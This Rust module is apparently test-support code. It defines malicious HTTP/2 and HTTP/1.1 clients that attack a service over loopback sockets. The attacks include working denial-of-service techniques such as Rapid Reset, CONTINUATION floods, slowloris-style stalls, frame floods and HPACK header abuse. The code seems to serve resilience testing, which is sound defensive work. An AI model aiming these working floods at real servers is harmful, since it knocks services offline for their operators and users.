//! Malicious clients, in raw bytes over real sockets.

use std::io;

use tokio::{
    io::AsyncWriteExt,
    net::{TcpSocket, TcpStream},
};

/// A loopback address for attackers, who usually have others than honest callers.
pub const ATTACKER: &str = "127.0.0.2";

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What an attack does with each of its connections.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Connects and sends nothing: over TLS a handshake that does not begin.
    Silence,
    /// Half of HTTP/2's connection preface.
    HalfPreface,
    /// The headers of an HTTP/1.1 request, a line at a time, without an end.
    SlowHeaders,
    /// HTTP/2, set up and then idle.
    Idle,
    /// Requests that are reset at once.
    RapidReset,
    /// Headers without an end.
    Continuation,
    /// A body that is announced and not sent.
    SlowBody,
    /// HTTP/2, with a health check whose message is not sent.
    UnfinishedCheck,
    /// HTTP/2, with a hundred unfinished health checks. Their headers are large, and refer to the HPACK table.
    LargeHeaders,
    /// PING frames without end.
    Pings,
    /// WINDOW_UPDATE frames without end.
    WindowUpdates,
    /// SETTINGS frames without end.
    Settings,
    /// PRIORITY frames without end.
    Priorities,
    /// A body in DATA frames of one byte.
    TinyData,
    /// A request for an authority with two ports, as gRPC clients send it for a target of two addresses.
    TwoPorts,
    /// An HTTP/1.1 body in chunks of one byte.
    TinyChunks,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `POST` of the RPC, in HPACK without compression.
fn request() -> Vec<u8> {
    post("/collections.v1.CollectionsService/Destroy")
}

fn post(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(4, path), (31, "application/grpc")] {
        match name {
            4 => block.push(0x04),
            _ => block.extend([0x0f, 31 - 15]),
        }
        block.push(u8::try_from(value.len()).unwrap());
        block.extend(value.as_bytes());
    }
    block
}

/// Sends the frame again and again, some megabytes of it.
async fn flood(mut stream: TcpStream, hello: &[u8], frame: &[u8]) -> Option<TcpStream> {
    stream.write_all(hello).await.ok()?;
    let frames = frame.repeat(1_000);
    for _ in 0..300 {
        stream.write_all(&frames).await.ok()?;
    }
    Some(stream)
}

/// A connection from this loopback address.
pub async fn connect_from(source: &str, address: &str) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(format!("{source}:0").parse().unwrap())?;
    socket.connect(address.parse().unwrap()).await
}

impl Attack {
    /// Opens one connection of the attack from this loopback address, and returns it, to be held open; none where the
    /// service has closed it.
    pub async fn open_from(self, source: &str, address: &str) -> Option<TcpStream> {
        self.run(connect_from(source, address).await.ok()?).await
    }

    /// The same, over this connection.
    async fn run(self, mut stream: TcpStream) -> Option<TcpStream> {
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            Self::Silence => Some(stream),
            Self::HalfPreface => stream.write_all(&PREFACE[..12]).await.ok().map(|()| stream),
            Self::SlowHeaders => {
                let head = b"POST /1.1/collections/destroy.json HTTP/1.1\r\nhost: a\r\nx-a: ";
                stream.write_all(head).await.ok().map(|()| stream)
            }
            Self::SlowBody => {
                let head =
                    b"POST /1.1/collections/destroy.json HTTP/1.1\r\nhost: a\r\ncontent-length: 9\r\n\r\n";
                stream.write_all(head).await.ok().map(|()| stream)
            }
            Self::UnfinishedCheck => {
                let check = frame(HEADERS, END_HEADERS, 1, &post("/grpc.health.v1.Health/Check"));
                stream.write_all(&[hello, check].concat()).await.ok().map(|()| stream)
            }
            Self::LargeHeaders => {
                // A header of one letter with a value of 3,800, which the table keeps under the number 62.
                let entry =
                    [&[0x40, 1, b'a', 0x7f, 0xd9, 0x1c][..], &[b'x'; 127 + 0x59 + (0x1c << 7)]].concat();
                let mut frames = hello;
                for number in 0..100 {
                    let first = if number == 0 { entry.clone() } else { vec![0xbe] };
                    let block = [post("/grpc.health.v1.Health/Check"), first, vec![0xbe; 3]].concat();
                    frames.extend(frame(HEADERS, END_HEADERS, 2 * number + 1, &block));
                }
                stream.write_all(&frames).await.ok().map(|()| stream)
            }
            Self::Pings => flood(stream, &hello, &frame(PING, 0, 0, &[1; 8])).await,
            Self::WindowUpdates => flood(stream, &hello, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await,
            Self::Settings => flood(stream, &hello, &frame(SETTINGS, 0, 0, &[])).await,
            Self::Priorities => flood(stream, &hello, &frame(PRIORITY, 0, 1, &[0; 5])).await,
            Self::TinyData => {
                let call = frame(HEADERS, END_HEADERS, 1, &post("/1.1/collections/destroy.json"));
                let data = frame(DATA, 0, 1, b"x").repeat(60_000);
                stream.write_all(&[hello, call, data].concat()).await.ok().map(|()| stream)
            }
            Self::TwoPorts => {
                let authority = b"192.0.2.1:1,192.0.2.2:2";
                let length = u8::try_from(authority.len()).unwrap();
                let block = [&request(), &[0x01, length][..], authority].concat();
                let call = frame(HEADERS, END_HEADERS | END_STREAM, 1, &block);
                stream.write_all(&[hello, call].concat()).await.ok().map(|()| stream)
            }
            Self::TinyChunks => {
                let head = b"POST /1.1/collections/destroy.json HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n";
                let chunks = b"1\r\nx\r\n".repeat(60_000);
                stream.write_all(&[&head[..], &chunks].concat()).await.ok().map(|()| stream)
            }
            Self::Idle => stream.write_all(&hello).await.ok().map(|()| stream),
            Self::RapidReset => {
                stream.write_all(&hello).await.ok()?;
                for number in 0..5_000 {
                    let id = 2 * number + 1;
                    let reset = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
                    let pair = [frame(HEADERS, END_HEADERS, id, &request()), reset].concat();
                    stream.write_all(&pair).await.ok()?;
                }
                Some(stream)
            }
            Self::Continuation => {
                stream.write_all(&hello).await.ok()?;
                stream.write_all(&frame(HEADERS, END_STREAM, 1, &request())).await.ok()?;
                // A header that is never indexed: `a` with a value of 100 letters, again and again.
                let line = [&[0x10, 1, b'a', 100][..], &[b'x'; 100]].concat();
                let block = line.repeat(150);
                for _ in 0..5_000 {
                    stream.write_all(&frame(CONTINUATION, 0, 1, &block)).await.ok()?;
                }
                Some(stream)
            }
        }
    }
}
